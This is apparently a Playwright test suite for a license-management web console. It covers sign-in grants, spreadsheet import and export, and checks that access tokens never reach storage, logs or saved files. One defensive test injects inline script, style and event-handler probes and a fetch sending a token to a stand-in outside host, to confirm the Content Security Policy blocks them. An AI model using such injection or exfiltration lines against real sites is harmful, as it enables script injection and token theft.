import writeXlsx from 'write-excel-file/node';
import { expect, test } from './fixtures.ts';
import { Console } from './support/console.ts';
import { keptInBrowser } from './support/keptInBrowser.ts';
import { peopleWithout } from './support/people.ts';
import { saved, savedResults } from './support/saved.ts';

const LICENSE = 'journeyManagement';

test.describe('under the headers that the shipped configurations send', () => {
  for (const [grant, basePath] of [
    ['pkce', '/'],
    ['implicit', '/tools/console/'],
  ] as const) {
    test(`the ${grant} grant, the matrix, a job and the demo work under ${basePath}`, async ({
      page,
      serve,
      service,
    }) => {
      test.slow();
      const [someone] = peopleWithout(service.sandbox, LICENSE, 1);
      if (!someone) throw new Error('The sandbox has nobody');
      const app = new Console(page, await serve({ config: { grant }, basePath }));

      await app.signIn('assignments');
      const style = await app.matrix.evaluate((grid) => getComputedStyle(grid).display);
      expect(style, 'the styles are in effect').not.toBe('inline');
      await app.selectUser(someone.name);
      await app.assignSelected();
      await app.chooseLicense('Licenses to add', LICENSE);
      await app.review(1);
      await saved(page, 'Save plan as…', /^Table/);
      await app.apply(1);
      await expect(app.resultOf(someone.name)).toContainText('Done');
      await savedResults(page);
      for (const path of ['', 'licenses/cloudCX3', `users/${someone.id}`, 'audit']) {
        await app.open(path);
        await expect(app.title, path).toBeVisible();
        await app.settled();
      }
      await app.open();
      await app.signOut();
      await expect(app.heading('Sign in')).toBeVisible();
      await app.open('licenses?demo');
      await expect(page.getByRole('link', { name: 'communicate', exact: true })).not.toHaveCount(0);
    });
  }

  test('large workbooks are read and written', async ({ page, serve, startService }) => {
    test.slow();
    const service = await startService({ users: 5_000, seed: 7 });
    const app = new Console(page, await serve({ service }));
    await app.signIn('audit');
    const findings = page.getByRole('button', { name: 'Export findings' });
    await expect(page.getByText(/^Read just now/)).toBeVisible({ timeout: 30_000 });
    await expect(findings).toBeEnabled({ timeout: 30_000 });
    const bytes = await saved(page, 'Export findings', /Excel|XLSX|workbook/i);
    expect(bytes.subarray(0, 2).toString()).toBe('PK');

    const rows = Array.from({ length: 8_000 }, (_, at) => [
      `nobody-${at}@x.example`,
      LICENSE,
      'add',
    ]);
    const data = [['user', 'license', 'action'], ...rows];
    await app.open('assign');
    await page.getByRole('link', { name: 'Use a file' }).click();
    await page.getByLabel('Choose a CSV or XLSX file').setInputFiles({
      name: 'changes.xlsx',
      mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      buffer: await writeXlsx([{ sheet: 'Changes', data }]).toBuffer(),
    });
    await expect(page.getByText(/8,000/).first()).toBeVisible();
  });

  test('scripts from elsewhere, inline handlers, other hosts and frames are stopped', async ({
    app,
    page,
    health,
  }) => {
    await app.open('login');
    await expect(app.heading('Sign in')).toBeVisible();
    health.check();

    health.allow(/Content Security Policy|Framing|net::ERR_BLOCKED_BY_RESPONSE/);
    await page.evaluate(() => {
      const stopped: string[] = [];
      Reflect.set(window, 'stopped', stopped);
      document.addEventListener('securitypolicyviolation', (event) => {
        stopped.push(`${event.effectiveDirective} ${event.blockedURI}`);
      });
    });
    await page.evaluate(async () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.ran = 1">');
      const script = document.createElement('script');
      script.textContent = 'window.ran = 2';
      document.body.append(script);
      const style = document.createElement('style');
      style.textContent = 'body { display: none }';
      document.body.append(style);
      await fetch('https://elsewhere.example/?token=1').catch(() => undefined);
    });
    await expect
      .poll(
        async () => new Set(await page.evaluate<string[]>(() => Reflect.get(window, 'stopped'))),
      )
      .toEqual(
        new Set([
          'connect-src https://elsewhere.example/?token=1',
          'script-src-attr inline',
          'script-src-elem inline',
          'style-src-elem inline',
        ]),
      );
    expect(await page.evaluate(() => Reflect.get(window, 'ran'))).toBeUndefined();
    await expect(app.title).toBeVisible();

    await page.goto('about:blank');
    await page.setContent(`<iframe src="${app.site.url}login"></iframe>`);
    await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
  });
});

for (const grant of ['pkce', 'implicit'] as const) {
  test(`the token of the ${grant} grant is in no storage but the tab's, no log, and no file`, async ({
    page,
    context,
    serve,
    service,
    health,
  }) => {
    test.slow();
    health.expectFailedRequests();
    const logged: string[] = [];
    context.on('console', (message) => logged.push(message.text()));
    const [someone] = peopleWithout(service.sandbox, LICENSE, 1);
    if (!someone) throw new Error('The sandbox has nobody');
    const app = new Console(page, await serve({ config: { grant } }));
    const request = page.waitForRequest((sent) => 'authorization' in sent.headers());
    await app.signIn('assignments');
    const token = (await request).headers()['authorization']?.replace('Bearer ', '') ?? '';
    expect(service.sandbox.isTokenValid(token)).toBe(true);

    const files: string[] = [];
    await app.selectUser(someone.name);
    await app.assignSelected();
    await app.chooseLicense('Licenses to add', LICENSE);
    await app.review(1);
    for (const kind of [/^Plan/, /^Table/, /^Shell script/]) {
      files.push((await saved(page, 'Save plan as…', kind)).toString());
    }
    expect(await keptInBrowser(page)).not.toContain(token);
    await app.apply(1);
    await expect(app.resultOf(someone.name)).toContainText('Done');
    files.push(await savedResults(page));
    for (const file of files) {
      expect(file).toContain(someone.id);
      expect(file).not.toContain(token);
    }

    const kept = await keptInBrowser(page);
    expect(kept, 'the job is there, so the databases are really read').toContain(someone.id);
    expect(kept).not.toContain(token);
    for (const kind of ['500', 'html'] as const) {
      service.sandbox.faults.clear();
      service.sandbox.faults.add({ kind, operation: 'any' });
      await app.open('licenses');
      await expect(page.getByRole('alert').first()).toBeVisible({ timeout: 20_000 });
      expect(await keptInBrowser(page)).not.toContain(token);
    }
    expect(logged.join('\n')).not.toContain(token);
    expect((await app.stored()).session).toContain(token);
  });
}
